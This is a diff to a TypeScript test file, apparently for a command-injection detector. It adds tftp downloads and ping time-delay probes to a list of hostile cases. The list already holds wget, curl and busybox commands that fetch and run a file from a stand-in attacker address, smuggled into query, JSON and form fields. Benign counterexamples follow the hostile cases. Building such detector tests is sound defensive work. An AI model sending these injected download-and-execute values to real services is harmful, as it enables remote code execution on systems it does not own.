@@ -877,6 +877,11 @@ const LIVING_OFF_THE_LAND: Case[] = [
   ["body:json", JSON.stringify({ host: "cd /tmp && wget http://198.51.100.7/x && sh x" })],
   ["body:form", "c=" + encodeURIComponent("curl http://198.51.100.7:8080/x -o /tmp/x; chmod +x /tmp/x; /tmp/x")],
   ["query", "x=" + encodeURIComponent("busybox wget http://198.51.100.7/bins.sh; sh bins.sh")],
+  // tftp getting a file from an address; ping's time probe against loopback.
+  ["query", "x=" + encodeURIComponent("tftp -g -r x 198.51.100.7")],
+  ["body:json", JSON.stringify({ host: "tftp -i 198.51.100.7 GET x.exe" })],
+  ["query", "ip=" + encodeURIComponent("ping -c 10 127.0.0.1")],
+  ["body:form", "host=" + encodeURIComponent("ping 127.0.0.1 -n 10")],
 ];
 const NOT_LIVING_OFF_THE_LAND: Case[] = [
   // The programs' everyday arguments, and sentences that name them.
@@ -911,6 +916,11 @@ const NOT_LIVING_OFF_THE_LAND: Case[] = [
   ["body:json", JSON.stringify({ run: "curl -LO https://dl.k8s.io/release/v1.31.0/bin/linux/amd64/kubectl && chmod +x kubectl" })],
   ["body:json", JSON.stringify({ run: "wget http://192.168.1.20/backup.tar.gz && tar xzf backup.tar.gz" })],
   ["body:json", JSON.stringify({ run: "cd docs && make html" })],
+  // A ping of another host, or with no count; tftp with no address or no get; prose.
+  ["query", "q=" + encodeURIComponent("ping -c 4 example.com")],
+  ["query", "q=" + encodeURIComponent("ping 127.0.0.1")],
+  ["body:json", JSON.stringify({ cmd: "tftp 198.51.100.7" })],
+  ["body:json", JSON.stringify({ text: "ping the server at 127.0.0.1 with -c 10 to wait" })],
 ];
 
 // A value that is one command line against the system's own files (cmdinject.ts systemCommandLine): rce.
